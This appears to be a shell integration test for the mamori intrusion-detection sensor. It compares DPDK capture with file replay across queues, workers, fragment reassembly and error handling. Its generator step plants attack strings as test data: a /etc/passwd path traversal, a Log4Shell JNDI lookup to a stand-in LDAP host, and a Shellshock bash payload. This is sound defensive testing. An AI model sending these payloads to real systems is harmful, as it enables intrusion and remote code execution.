#!/bin/bash
# DPDK capture (--dpdk) against reading the same file with -r. EAL runs
# without hugepages, PCI or shared config; the port is a net_pcap vdev
# replaying a capture (net_pcap stamps mbufs with the file's times, so flows
# age by packet time exactly as with -r).
#  - corpus captures and a generated one with planted attack strings: the
#    same decoder counters, flow counters and alerts (sid and count) as -r;
#  - two queues (two rx_pcap streams, split by a symmetric flow hash as a
#    NIC's symmetric RSS would) polled by two workers: no flow split (the
#    flow counts equal -r's over the whole capture; a round-robin split,
#    which does split flows, is told apart), both workers busy;
#  - one queue and two workers: software dispatch, same results;
#  - fragments whose flows live on the other queue: reassembled datagrams
#    handed to the right worker (dpdk.assume-rss on net_pcap), counted as of
#    an unknown owner without it;
#  - SIGTERM stops a run on an endless port (infinite_rx) with exit 0 and a
#    final stats record;
#  - bad EAL arguments, a missing port, too few lcores: exit 2 and a message.
# Skips (77) only when the build has no DPDK.
. "$(dirname "$0")/lib.sh"

if [ "${MAMORI_DPDK:-no}" != yes ]; then
	echo "SKIP: this build has no DPDK (configure --enable-dpdk)"
	exit 77
fi
if [ ! -x "$GEN_TRAFFIC" ]; then
	fail "generator not built: $GEN_TRAFFIC"
	finish
fi
PCAPS=$MAMORI_CORPUS/pcaps
EAL="--no-huge --no-pci --no-shconf -m 256 --log-level=lib.eal:error --file-prefix=mamori-test-$$"

# the sensor's numbers of one run: decoder and flow sections of the last
# stats record (less what depends on wall time), and alert sids with counts
summary() {
	python3 - "$1" <<'PY'
import json, sys, collections
last, sids = None, collections.Counter()
for line in open(sys.argv[1]):
    rec = json.loads(line)
    if rec.get("event_type") == "stats":
        last = rec["stats"]
    elif rec.get("event_type") == "alert":
        sids[rec["alert"]["signature_id"]] += 1
print("decoder", json.dumps(last["decoder"], sort_keys=True))
print("flow", json.dumps({k: v for k, v in last["flow"].items() if k != "memuse"}, sort_keys=True))
print("alerts", json.dumps(sorted(sids.items())))
PY
}
field() { sed -n "s/^$2 //p" "$1"; }

# run_r NAME FILE [ARGS]: the reference; run_dpdk NAME VDEV_ARGS [ARGS] [-- EAL]
run_r() {
	local name=$1 file=$2
	shift 2
	mkdir -p "$WORK/$name"
	"$MAMORI" -q -r "$file" -l "$WORK/$name" "$@" >"$WORK/$name.log" 2>&1
	echo $? >"$WORK/$name.rc"
}
# (a worker lcore beside the main one, both on CPU 0: the worker polls its
# queue itself, as on a real port)
run_dpdk() {
	local name=$1 vdev=$2
	shift 2
	mkdir -p "$WORK/$name"
	"$MAMORI" --dpdk -v -l "$WORK/$name" --exit-idle 1 "$@" -- $EAL "--lcores=(0-1)@0" \
		--vdev="net_pcap0,$vdev" >"$WORK/$name.log" 2>&1
	echo $? >"$WORK/$name.rc"
}

# compare NAME_R NAME_DPDK WHAT: both ran, decoder/flow/alert summaries equal
compare() {
	local a=$1 b=$2 what=$3
	check_eq "$what: -r exit status" 0 "$(cat "$WORK/$a.rc")"
	check_eq "$what: --dpdk exit status" 0 "$(cat "$WORK/$b.rc")"
	if [ ! -s "$WORK/$a/eve.json" ] || [ ! -s "$WORK/$b/eve.json" ]; then
		fail "$what: no eve.json ($(tail -3 "$WORK/$b.log"))"
		return
	fi
	summary "$WORK/$a/eve.json" >"$WORK/$a.sum"
	summary "$WORK/$b/eve.json" >"$WORK/$b.sum"
	for k in decoder flow alerts; do
		if [ "$(field "$WORK/$a.sum" $k)" = "$(field "$WORK/$b.sum" $k)" ]; then
			ok "$what: same $k counts"
		else
			fail "$what: $k differs: -r $(field "$WORK/$a.sum" $k) dpdk $(field "$WORK/$b.sum" $k)"
		fi
	done
}

# ---- rules: mamori.rules and a few that fire on the corpus captures -------
cat "$TOP_SRCDIR/rules/mamori.rules" >"$WORK/test.rules"
cat >>"$WORK/test.rules" <<'RULES'
alert tcp any any -> any any (msg:"http request"; flow:to_server; content:"GET "; depth:4; sid:9100001; rev:1;)
alert tcp any any -> any any (msg:"http response"; content:"HTTP/1."; depth:7; sid:9100002; rev:1;)
alert udp any any -> any 53 (msg:"dns query"; content:"|00 01 00 00|"; offset:4; depth:4; sid:9100003; rev:1;)
alert icmp any any -> any any (msg:"icmp with payload"; dsize:>16; sid:9100004; rev:1;)
alert tcp any any -> any any (msg:"syn"; flags:S; sid:9100005; rev:1;)
RULES
RULES_ARGS=(-S "$WORK/test.rules" --set detect.hs-cache-dir=)

# ---- a generated capture with the planted attack strings ------------------
"$GEN_TRAFFIC" -o "$WORK/gen.pcap" --seed 7 --flows 300 --ipv6 20 --vlan 10 --dns 30 \
	--plant '../../../../etc/passwd@3:20' \
	--plant '${jndi:ldap://198.51.100.7:1389/a}@7:30' \
	--plant '() { :; }; /bin/bash -c id@11:40' 2>/dev/null
check_eq "generator exit status" 0 $?
run_r gen_r "$WORK/gen.pcap" "${RULES_ARGS[@]}" --workers 1
run_dpdk gen_d "rx_pcap=$WORK/gen.pcap" "${RULES_ARGS[@]}" --workers 1
compare gen_r gen_d "generated capture"
grep -q "1 worker, a queue each" "$WORK/gen_d.log" && ok "one worker polls the port's queue itself" ||
	fail "one worker did not poll its queue: $(grep worker "$WORK/gen_d.log" | head -3)"
n=$(python3 -c 'import json,sys; print(sum(c for s, c in json.loads(sys.stdin.read())))' \
	<<<"$(field "$WORK/gen_d.sum" alerts)" 2>/dev/null)
[ "${n:-0}" -gt 3 ] && ok "generated capture: $n alerts to compare" ||
	fail "generated capture: too few alerts to compare ($n)"
grep -q '"signature_id":900000[123]' \
	"$WORK/gen_d/eve.json" && ok "a planted attack string alerts through DPDK" ||
	fail "no mamori.rules alert through DPDK"

# ---- corpus captures (Ethernet, pcap and pcapng) --------------------------
for f in benign/http-wireshark-sample.cap benign/reddit-ipv6.pcap \
	 benign/dns-lookups.pcapng malware-web/trickbot.pcap \
	 scan/nmap-tcp-connect-scan.pcap dns-tunnel/icmp-tunnel.pcap; do
	if [ ! -f "$PCAPS/$f" ]; then
		fail "corpus capture missing: $PCAPS/$f"
		continue
	fi
	b=$(basename "$f" | tr . _)
	run_r "${b}_r" "$PCAPS/$f" "${RULES_ARGS[@]}" --workers 1
	run_dpdk "${b}_d" "rx_pcap=$PCAPS/$f" "${RULES_ARGS[@]}" --workers 1
	compare "${b}_r" "${b}_d" "$f"
done
# reddit-ipv6 holds frames of up to 2862 bytes (offloaded segments): the
# vdev chains them over 2 KiB mbufs, which the backend linearises
ms=$(stats_field "$WORK/reddit-ipv6_pcap_d/eve.json" capture.multiseg)
[ "${ms:-0}" -gt 0 ] 2>/dev/null && ok "multi-segment mbufs linearised ($ms)" ||
	fail "no multi-segment mbufs counted ($ms)"
check_eq "no multi-segment packet truncated" 0 \
	"$(stats_field "$WORK/reddit-ipv6_pcap_d/eve.json" capture.truncated)"

# ---- two queues, two workers: no flow split -------------------------------
# Split the generated capture into two files by a symmetric hash of the
# addresses and ports (what symmetric RSS does), and round-robin by frame
# (which splits every flow) as the control.
python3 "$TOP_SRCDIR/tools/pcap-split-flows" "$WORK/gen.pcap" 2 "$WORK/qh" &&
	python3 "$TOP_SRCDIR/tools/pcap-split-flows" --round-robin "$WORK/gen.pcap" 2 "$WORK/qrr"
check_eq "capture split in two" 0 $?
run_r q_r "$WORK/gen.pcap" "${RULES_ARGS[@]}" --workers 2
mkdir -p "$WORK/q_d"
"$MAMORI" --dpdk -v -l "$WORK/q_d" --exit-idle 1 --workers 2 "${RULES_ARGS[@]}" -- $EAL \
	'--lcores=(0-2)@0' --vdev="net_pcap0,rx_pcap=$WORK/qh0.pcap,rx_pcap=$WORK/qh1.pcap" \
	>"$WORK/q_d.log" 2>&1
echo $? >"$WORK/q_d.rc"
grep -q "2 workers, a queue each" "$WORK/q_d.log" && ok "two queues: a worker polls each" ||
	fail "two queues not polled by a worker each: $(tail -3 "$WORK/q_d.log")"
# the decoder counts too: only the order of packets changed
compare q_r q_d "two queues, two workers"
busy=$(grep -c "worker [01]: .* pkts=[1-9]" "$WORK/q_d.log")
check_eq "both workers received packets" 2 "$busy"
mkdir -p "$WORK/rr_d"
"$MAMORI" --dpdk -l "$WORK/rr_d" --exit-idle 1 --workers 2 -- $EAL \
	'--lcores=(0-2)@0' --vdev="net_pcap0,rx_pcap=$WORK/qrr0.pcap,rx_pcap=$WORK/qrr1.pcap" \
	>"$WORK/rr_d.log" 2>&1
t_ref=$(stats_field "$WORK/q_r/eve.json" flow.total)
t_rr=$(stats_field "$WORK/rr_d/eve.json" flow.total)
[ "$t_rr" -gt "$t_ref" ] 2>/dev/null && ok "control: a round-robin split shows as more flows ($t_rr > $t_ref)" ||
	fail "control: round-robin split not detected ($t_rr vs $t_ref)"

# ---- one queue, two workers: software dispatch ----------------------------
mkdir -p "$WORK/sw_d"
"$MAMORI" --dpdk -l "$WORK/sw_d" --exit-idle 1 --workers 2 "${RULES_ARGS[@]}" -- $EAL \
	-l 0 --vdev="net_pcap0,rx_pcap=$WORK/gen.pcap" >"$WORK/sw_d.log" 2>&1
echo $? >"$WORK/sw_d.rc"
grep -q "dispatched to the workers in software" "$WORK/sw_d.log" &&
	ok "one queue: software dispatch, with a warning" || fail "no fallback warning: $(tail -3 "$WORK/sw_d.log")"
compare q_r sw_d "one queue, two workers"

# ---- fragments: a reassembled datagram goes to its flow's queue's worker ---
# Flows whose fragmented datagram only the worker with the flow's state
# alerts on (see test_defrag_workers.sh; here without the answer that unsets
# the flowbit after it, since queues polled by their own workers keep no
# common order). RSS hashes fragments on addresses, other packets on ports
# too: split as mamori's RSS model does (pcap-split-flows --rss), the
# datagrams are reassembled on one queue's worker and belong to the
# other's. net_pcap has no RSS: dpdk.assume-rss says the queues were filled
# that way; without it the queue of a flow is unknown and counted.
python3 "$TOP_SRCDIR/tests/integration/defrag_workers_pcaps.py" "$WORK/fw.pcap" --no-close \
	>"$WORK/fw.n" && python3 "$TOP_SRCDIR/tools/pcap-split-flows" --rss "$WORK/fw.pcap" 2 "$WORK/fwq"
check_eq "fragment capture written and split" 0 $?
cat >"$WORK/fw.rules" <<'RULES'
alert tcp any any -> any 7001 (msg:"login"; flow:established,to_server; content:"LOGIN"; flowbits:set,login; flowbits:noalert; sid:10;)
alert tcp any any -> any 7001 (msg:"command after login"; flow:established,to_server; flowbits:isset,login; content:"FRAGCMD-"; sid:11;)
alert udp any any -> any 7002 (msg:"hello"; content:"HELLO"; flowbits:set,hello; flowbits:noalert; sid:20;)
alert udp any any -> any 7002 (msg:"command after hello"; flow:established,to_server; flowbits:isset,hello; content:"FRAGCMD-"; sid:21;)
RULES
FW_ARGS=(-S "$WORK/fw.rules" -k none --set detect.hs-cache-dir= --set anomaly.enabled=no)
run_r fw_r "$WORK/fw.pcap" "${FW_ARGS[@]}" --workers 1
check_eq "fragments, -r: one alert per flow" "$(cat "$WORK/fw.n")" \
	"$(grep -c '"signature_id":[12]1,' "$WORK/fw_r/eve.json")"
for ar in yes no; do
	mkdir -p "$WORK/fw_$ar"
	"$MAMORI" --dpdk -v -l "$WORK/fw_$ar" --exit-idle 1 --workers 2 "${FW_ARGS[@]}" \
		--set dpdk.assume-rss=$ar -- $EAL '--lcores=(0-2)@0' \
		--vdev="net_pcap0,rx_pcap=$WORK/fwq0.pcap,rx_pcap=$WORK/fwq1.pcap" >"$WORK/fw_$ar.log" 2>&1
	echo $? >"$WORK/fw_$ar.rc"
done
compare fw_r fw_yes "fragments, two queues, dpdk.assume-rss"
fwd=$(stats_field "$WORK/fw_yes/eve.json" defrag.forwarded)
[ "$fwd" -gt 0 ] 2>/dev/null && ok "fragments, two queues: $fwd datagrams handed to their flow's queue's worker" ||
	fail "fragments, two queues: defrag.forwarded is $fwd"
check_eq "fragments, two queues: every owner known" 0 \
	"$(stats_field "$WORK/fw_yes/eve.json" defrag.forward_unknown)"
check_eq "no RSS, no dpdk.assume-rss: exit status" 0 "$(cat "$WORK/fw_no.rc")"
grep -q "no RSS, so the queue of a flow is not known" "$WORK/fw_no.log" &&
	ok "no RSS: a warning says datagrams stay where reassembled" ||
	fail "no warning about the unknown queue: $(grep -i rss "$WORK/fw_no.log" | head -2)"
check_eq "no RSS: nothing forwarded" 0 "$(stats_field "$WORK/fw_no/eve.json" defrag.forwarded)"
check_eq "no RSS: every datagram counted as of an unknown owner" \
	"$(( $(stats_field "$WORK/fw_no/eve.json" defrag.ipv4.reassembled) +
	     $(stats_field "$WORK/fw_no/eve.json" defrag.ipv6.reassembled) ))" \
	"$(stats_field "$WORK/fw_no/eve.json" defrag.forward_unknown)"
# one queue, two workers: software dispatch of the whole capture (with the
# flowbit unset after the datagram: in capture order, as -r)
python3 "$TOP_SRCDIR/tests/integration/defrag_workers_pcaps.py" "$WORK/fwc.pcap" >/dev/null
cat >>"$WORK/fw.rules" <<'RULES'
alert tcp any 7001 -> any any (msg:"done"; flow:to_client; content:"DONE"; flowbits:unset,login; flowbits:noalert; sid:12;)
alert udp any 7002 -> any any (msg:"done"; content:"DONE"; flowbits:unset,hello; flowbits:noalert; sid:22;)
RULES
run_r fwc_r "$WORK/fwc.pcap" "${FW_ARGS[@]}" --workers 1
mkdir -p "$WORK/fwc_d"
"$MAMORI" --dpdk -l "$WORK/fwc_d" --exit-idle 1 --workers 2 "${FW_ARGS[@]}" -- $EAL \
	-l 0 --vdev="net_pcap0,rx_pcap=$WORK/fwc.pcap" >"$WORK/fwc_d.log" 2>&1
echo $? >"$WORK/fwc_d.rc"
compare fwc_r fwc_d "fragments, one queue, two workers"
fwd=$(stats_field "$WORK/fwc_d/eve.json" defrag.forwarded)
[ "$fwd" -gt 0 ] 2>/dev/null && ok "fragments, one queue: $fwd datagrams forwarded" ||
	fail "fragments, one queue: defrag.forwarded is $fwd"

# ---- SIGTERM on an endless port -------------------------------------------
# infinite_rx holds the whole file in mbufs: a small one
"$GEN_TRAFFIC" -o "$WORK/small.pcap" --seed 8 --flows 10 --size 1M 2>/dev/null
mkdir -p "$WORK/term"
"$MAMORI" --dpdk -q -l "$WORK/term" --workers 1 --set dpdk.mempool-size=16383 -- $EAL "--lcores=(0-1)@0" \
	--vdev="net_pcap0,rx_pcap=$WORK/small.pcap,infinite_rx=1" >"$WORK/term.log" 2>&1 &
pid=$!
sleep 3
kill -TERM $pid
wait $pid
check_eq "SIGTERM exits 0" 0 $?
last=$(tail -n 1 "$WORK/term/eve.json" 2>/dev/null |
	python3 -c 'import json,sys; print(json.load(sys.stdin)["event_type"])' 2>/dev/null)
check_eq "SIGTERM writes the final stats record" stats "$last"
pk=$(stats_field "$WORK/term/eve.json" capture.packets)
[ "${pk:-0}" -gt 0 ] 2>/dev/null && ok "endless port: $pk packets counted in capture.packets" ||
	fail "capture.packets not counted ($pk)"
check_eq "endless port: no mbuf shortage" 0 "$(stats_field "$WORK/term/eve.json" capture.rx_nombuf)"

# ---- EAL arguments and port from the configuration -------------------------
{
	echo "dpdk:"
	echo "  port: net_pcap1"
	echo "  eal-args:"
	for a in $EAL "--lcores=(0-1)@0" "--vdev=net_pcap1,rx_pcap=$WORK/gen.pcap"; do
		echo "    - \"$a\""
	done
} >"$WORK/dpdk.yaml"
mkdir -p "$WORK/cfg_d"
"$MAMORI" --dpdk -c "$WORK/dpdk.yaml" -l "$WORK/cfg_d" --exit-idle 1 --workers 1 \
	>"$WORK/cfg_d.log" 2>&1
check_eq "dpdk.eal-args and dpdk.port from the config: exit status" 0 $?
check_eq "dpdk.eal-args and dpdk.port from the config: every frame" \
	"$(stats_field "$WORK/gen_r/eve.json" decoder.pkts)" "$(stats_field "$WORK/cfg_d/eve.json" decoder.pkts)"

# ---- bad usage: exit 2 with a message -------------------------------------
"$MAMORI" --dpdk -q -- $EAL --no-such-eal-option >"$WORK/o" 2>"$WORK/e"
check_eq "bad EAL argument: exit 2" 2 $?
grep -q "EAL initialisation failed.*check the EAL arguments" "$WORK/e" &&
	ok "bad EAL argument: message" || fail "bad EAL argument message: $(tail -2 "$WORK/e")"
"$MAMORI" --dpdk -q --set dpdk.port=net_pcap7 -- $EAL -l 0 \
	--vdev="net_pcap0,rx_pcap=$WORK/gen.pcap" >"$WORK/o" 2>"$WORK/e"
check_eq "missing port: exit 2" 2 $?
grep -q "no DPDK port 'net_pcap7' (ports: net_pcap0)" "$WORK/e" && ok "missing port: named" ||
	fail "missing port message: $(tail -2 "$WORK/e")"
"$MAMORI" --dpdk -q -- $EAL -l 0 >"$WORK/o" 2>"$WORK/e"
check_eq "no port at all: exit 2" 2 $?
grep -q "no DPDK port: bind a NIC" "$WORK/e" && ok "no port: says how to get one" ||
	fail "no port message: $(tail -2 "$WORK/e")"
"$MAMORI" --dpdk -q --workers 2 -- $EAL -l 0 \
	--vdev="net_pcap0,rx_pcap=$WORK/qh0.pcap,rx_pcap=$WORK/qh1.pcap" >"$WORK/o" 2>"$WORK/e"
check_eq "too few lcores: exit 2" 2 $?
grep -q "2 workers need 2 EAL worker lcores" "$WORK/e" && ok "too few lcores: message" ||
	fail "lcore message: $(tail -2 "$WORK/e")"
"$MAMORI" --dpdk -q --set dpdk.mtu=70000 -- $EAL -l 0 >"$WORK/o" 2>"$WORK/e"
check_eq "dpdk.mtu out of range: exit 2" 2 $?

finish
